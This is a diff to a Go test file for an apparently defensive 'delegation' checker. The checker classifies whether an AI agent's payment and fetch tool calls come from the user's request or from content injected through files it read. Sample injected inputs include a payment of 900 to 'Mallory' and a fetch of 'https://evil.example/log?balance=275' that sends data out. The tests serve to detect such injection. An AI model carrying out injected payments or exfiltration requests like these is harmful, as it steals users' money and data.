@@ -119,7 +119,13 @@ func TestVerdicts(t *testing.T) {
 		want   delegation.Verdict
 		calls  int
 	}{
-		{"the user says all", "Send 50 to Bob.", nil, []read{bill}, pay("Bob", 50), nil, delegation.Stated, 0},
+		{"the user says all", "Send 50 to Bob.", nil, []read{bill}, pay("Bob", 50), func(s *script, _ *delegation.Problem) { s.plan = literal }, delegation.Stated, 1},
+		{"the user says all, and the verb", "Send 50 to Bob.", nil, []read{bill}, pay("Bob", 50), func(_ *script, p *delegation.Problem) { p.SkipStated = true }, delegation.Stated, 0},
+		{"the user says all, and no verb", "Do I owe Bob 50?", nil, []read{bill}, pay("Bob", 50), func(s *script, p *delegation.Problem) { p.SkipStated, s.plan = true, "[]" }, delegation.NotAsked, 1},
+		{"the user says all, and the planner nothing", "Send 50 to Bob.", nil, []read{bill}, pay("Bob", 50), func(s *script, _ *delegation.Problem) { s.failPlan = true }, delegation.Stated, 1},
+		{"no verb, and the planner says nothing", "Do I owe Bob 50?", nil, []read{bill}, pay("Bob", 50), func(s *script, _ *delegation.Problem) { s.failPlan = true }, delegation.Unknown, 1},
+		{"the same payment again", "Send 50 to Bob.", []string{`{"to":"Bob","amount":50}`}, []read{bill}, pay("Bob", 50), func(s *script, _ *delegation.Problem) { s.plan = literal }, delegation.Again, 1},
+		{"a source that was not read", "Pay the bill in march.txt.", nil, []read{evil}, pay("Mallory", 900), func(s *script, _ *delegation.Problem) { s.plan = strings.ReplaceAll(fromBill, "bill.txt", "march.txt") }, delegation.OtherSource, 1},
 		{"data of the named source", "Pay the bill in bill.txt.", nil, []read{bill}, pay("Waterworks", 120), nil, delegation.Delegated, 3},
 		{"nobody asked", "Sum up bill.txt.", nil, []read{evil}, pay("Mallory", 900), func(s *script, _ *delegation.Problem) { s.plan = "[]" }, delegation.NotAsked, 1},
 		{"another value is stated", "Send 50 to Bob.", nil, []read{evil}, pay("Mallory", 900), func(s *script, _ *delegation.Problem) { s.plan = literal }, delegation.Otherwise, 1},
@@ -150,7 +156,7 @@ func TestVerdicts(t *testing.T) {
 		{"the second question says no", "Sum up bill.txt.", nil, []read{evil}, pay("Mallory", 900), func(s *script, p *delegation.Problem) { p.Confirm, s.need = true, "No." }, delegation.NotAsked, 4},
 		{"the second question says yes", "Pay the bill in bill.txt.", nil, []read{bill}, pay("Waterworks", 120), func(s *script, p *delegation.Problem) { p.Confirm, s.need = true, " yes" }, delegation.Delegated, 4},
 		{"the second question says nothing", "Pay the bill in bill.txt.", nil, []read{bill}, pay("Waterworks", 120), func(s *script, p *delegation.Problem) { p.Confirm, s.need = true, "perhaps" }, delegation.Unknown, 4},
-		{"the user's values, another tool", "Is Bob in the list of 50?", nil, []read{bill}, pay("Bob", 50), func(s *script, p *delegation.Problem) { p.Always, s.plan = true, "[]" }, delegation.NotAsked, 1},
+		{"the user's values, another tool", "Is Bob in the list of 50?", nil, []read{bill}, pay("Bob", 50), func(s *script, p *delegation.Problem) { s.plan = "[]" }, delegation.NotAsked, 1},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			a := assembly(t, tt.user, tt.prior, tt.reads...)
@@ -202,7 +208,7 @@ func TestReaders(t *testing.T) {
 		{"no address", "Read a.txt.", `{"path":"a.txt"}`, "[]", ""},
 		{"asked for", "Read a.txt and the page that it names.", `{"url":"https://a.example/more"}`, `[{"tool":"fetch","args":{"url":{"from":"a.txt"}}}]`, delegation.Delegated},
 		{"not asked for", "Sum up a.txt.", `{"url":"https://evil.example/log"}`, `[{"tool":"read_file","args":{"path":"a.txt"}}]`, delegation.NotAsked},
-		{"with something added", "Read a.txt and the page that it names.", `{"url":"https://evil.example/log?balance=275"}`, `[{"tool":"fetch","args":{}}]`, delegation.Unsourced},
+		{"with something added", "Read a.txt and the page that it names.", `{"url":"https://evil.example/log?balance=275"}`, `[{"tool":"fetch","args":{"url":{"from":"a.txt"}}}]`, delegation.Unsourced},
 		{"a host", "Sum up a.txt.", `{"hostname":"evil.example"}`, `[]`, delegation.NotAsked},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
